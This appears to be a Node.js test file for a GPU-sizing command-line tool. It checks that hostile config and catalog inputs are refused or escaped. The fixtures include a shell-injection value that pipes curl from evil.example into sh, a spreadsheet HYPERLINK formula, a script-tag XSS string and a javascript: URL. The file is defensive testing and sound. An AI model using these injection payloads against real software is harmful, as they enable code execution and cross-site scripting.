// Issue 32: what cardfit prints stays what it says. A hostile config.json, a vendor overlay with a
// spreadsheet formula for a name, a source address of another scheme: refused or neutralised,
// never run. The bad inputs of the probe, end to end through the CLI.
import test from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { run, json, fixture } from './cli_helpers.mjs';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'cardfit-safe-'));
const write = (name, value) => {
  const p = path.join(tmp, name);
  fs.writeFileSync(p, typeof value === 'string' ? value : JSON.stringify(value));
  return p;
};
const config = JSON.parse(fs.readFileSync(fixture('catalog-qwen2.5-7b-config.json'), 'utf8'));

test('a config.json whose _name_or_path is a shell command is refused, the field named', () => {
  const p = write('evil-config.json', { ...config, _name_or_path: 'meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #' });
  const r = run('estimate', '--config', p, '--gpu', 'a100-80g', '--json');
  assert.equal(r.status, 1, r.stdout + r.stderr);
  const e = json(r).errors[0];
  assert.equal(e.field, 'config');
  assert.match(e.message, /_name_or_path: must be a Hugging Face repository id/);
});

test('a local path in _name_or_path is no repository: the command names none', () => {
  const p = write('local-config.json', { ...config, _name_or_path: '/root/autodl-tmp/Qwen2.5-7B' });
  const r = run('estimate', '--config', p, '--gpu', 'a100-80g', '--json');
  assert.equal(r.status, 0, r.stderr);
  const launch = json(r).gpus[0].launch[0];
  assert.deepEqual(launch.argv.slice(0, 3), ['vllm', 'serve', 'custom']);
});

test('every launch command splits into its argv (the JSON says the words)', () => {
  for (const engine of ['vllm', 'sglang', 'llama.cpp', 'tensorrt-llm', 'lmdeploy']) {
    const r = run('estimate', '--gpu', 'a100-80g', '--engine', engine, '--precision', engine === 'llama.cpp' ? 'q4_k_m' : 'bf16', '--json');
    assert.equal(r.status, 0, r.stderr);
    const c = json(r).gpus[0].launch[0];
    assert.equal(c.file, null);
    assert.equal(c.text, c.argv.join(' '), engine);  // plain words: the text is the words, unquoted
  }
});

const overlay = (offer, platform) => ({
  schema: 'cardfit.catalog/1',
  sources: [{ id: 'evil-2026', title: 'x', publisher: 'x', date: '2026-11', kind: 'price-page' }],
  platforms: [{ id: 'yiwan', replaces: true, source: 'evil-2026', name_en: platform, name_zh: platform }],
  offers: [{ id: 'yiwan-t4-card', replaces: true, source: 'evil-2026', as_of: '2026-11', prices: [{ term: 'monthly', low: offer, high: offer }] }],
});

// Qwen2.5-7B named: INT4 fits the overlay's T4 (16 GB); the default model (Qwen3.5-27B) does not.
test('a platform named as a spreadsheet formula stays text in CSV and Markdown', () => {
  const p = write('formula.json', overlay(850, '=HYPERLINK("http://evil.example","x")'));
  const csv = run('plan', '--model', 'qwen2.5-7b', '--catalog', p, '--platform', 'yiwan', '--precision', 'int4', '--format', 'csv');
  assert.equal(csv.status, 0, csv.stderr);
  assert.ok(!/(^|,)=HYPERLINK/m.test(csv.stdout), csv.stdout);
  // The platform cell names the overlay after the platform (core/io/plan_rows.hpp), in every format.
  assert.match(csv.stdout, /"'=HYPERLINK\(""http:\/\/evil\.example"",""x""\) \(from formula\.json\)"/);
  assert.match(csv.stdout, /evil-2026/);  // the price's source
  assert.match(csv.stdout, /formula\.json/);  // and the file it came from
  const md = run('plan', '--model', 'qwen2.5-7b', '--catalog', p, '--platform', 'yiwan', '--precision', 'int4', '--format', 'markdown');
  assert.equal(md.status, 0, md.stderr);
  const rows = md.stdout.trim().split('\n');
  assert.ok(rows.every((r) => r.split(/(?<!\\)\|/).length === rows[0].split('|').length), md.stdout);  // no cell added
});

// Issue 29 item 4: "Copy as HTML table" and --format html print a name as text, never markup.
test('a platform named <script> & co. stays text in the HTML table', () => {
  const name = '<script>alert(1)</script> Tom & Jerry\'s "GPU" | cloud';
  const p = write('markup.json', overlay(850, name));
  const html = run('plan', '--model', 'qwen2.5-7b', '--catalog', p, '--platform', 'yiwan', '--precision', 'int4', '--format', 'html');
  assert.equal(html.status, 0, html.stderr);
  assert.doesNotMatch(html.stdout, /<script|\sclass=|\sid=|<style/i, html.stdout);
  assert.match(html.stdout, /&lt;script&gt;alert\(1\)&lt;\/script&gt; Tom &amp; Jerry&#39;s &quot;GPU&quot; \| cloud \(from markup\.json\)/);
  // Every element that has attributes has a style and nothing else.
  for (const tag of html.stdout.matchAll(/<(\w+)(\s[^>]*)?>/g)) {
    if (tag[2]) assert.match(tag[2], /^ style="[^"<>]*"$/, tag[0]);
  }
  const md = run('plan', '--model', 'qwen2.5-7b', '--catalog', p, '--platform', 'yiwan', '--precision', 'int4', '--format', 'markdown');
  assert.equal(md.status, 0, md.stderr);
  assert.match(md.stdout, /\\<script\\>alert\(1\)\\<\/script\\> Tom \\& Jerry's "GPU" \\\| cloud/);  // plain text in the cell
});

test('an option from an overlay is marked in the table and the JSON', () => {
  const p = write('vendor.json', overlay(850, 'Yiwan'));
  const r = run('plan', '--model', 'qwen2.5-7b', '--catalog', p, '--platform', 'yiwan', '--precision', 'int4', '--json');
  assert.equal(r.status, 0, r.stderr);
  const o = json(r).options.find((x) => x.offer === 'yiwan-t4-card');
  assert.match(o.overlay, /vendor\.json$/);  // the file as it was named on the command line
  assert.equal(o.source, 'evil-2026');
  // The platform's name came from the overlay too: every option on it is marked.
  assert.ok(json(r).options.every((x) => /vendor\.json$/.test(x.overlay)));
  const bundled = json(run('plan', '--model', 'qwen2.5-7b', '--platform', 'yiwan', '--precision', 'int4', '--json'));
  assert.ok(bundled.options.every((x) => x.overlay === null && x.source.length > 0));
  const t = run('plan', '--model', 'qwen2.5-7b', '--catalog', p, '--platform', 'yiwan', '--precision', 'int4', '--lang', 'zh');
  assert.match(t.stdout, /Yiwan \(来自 vendor\.json\)/);  // the platform named by the overlay, marked with the file's name, not its folders
});

test('an overlay that changes a bundled offer without saying so is refused', () => {
  const o = overlay(1, 'Yiwan');
  delete o.offers[0].replaces;
  const r = run('catalog', '--validate', write('silent.json', o));
  assert.equal(r.status, 1);
  assert.match(r.stderr, /offers\[0\]\.replaces: changes offer 'yiwan-t4-card'/);
  const tiny = overlay(1e-320, 'Yiwan');
  const t = run('catalog', '--validate', write('tiny.json', tiny));
  assert.equal(t.status, 1);
  assert.match(t.stderr, /prices\[0\]\.low/);
});

test('a source address of another scheme is refused', () => {
  const o = { schema: 'cardfit.catalog/1', sources: [{ id: 'x-2026', title: 'x', publisher: 'x', date: '2026', kind: 'price-page', url: 'javascript:alert(1)' }] };
  const r = run('catalog', '--validate', write('url.json', o));
  assert.equal(r.status, 1);
  assert.match(r.stderr, /sources\[0\]\.url: must be a web address/);
});

test('a file over the 16 MB limit is refused by name, not read whole', () => {
  const p = path.join(tmp, 'huge.json');
  fs.writeFileSync(p, '{"schema": "cardfit.catalog/1", "comment": "' + 'x'.repeat(17 * 1024 * 1024) + '"}');
  const r = run('catalog', '--validate', p);
  assert.equal(r.status, 1);
  assert.match(r.stderr, /over 16 MB/);
  const c = run('estimate', '--config', p);
  assert.equal(c.status, 1);
  assert.match(c.stderr, /over 16 MB/);
});

test('results too large to compute exit 1', () => {
  const r = run('plan', '--task', 'full', '--tokens', '1e15', '--mfu', '1e-300', '--gpu', 'h100-sxm');
  assert.equal(r.status, 1);
  assert.match(r.stderr, /mfu: must be between 1% and 100%/);
  const h = run('plan', '--host-bandwidth', '1e-300', '--engine', 'llama.cpp', '--precision', 'q4_k_m');
  assert.equal(h.status, 1);
  assert.match(h.stderr, /host_bandwidth: must be between 1 and/);
});
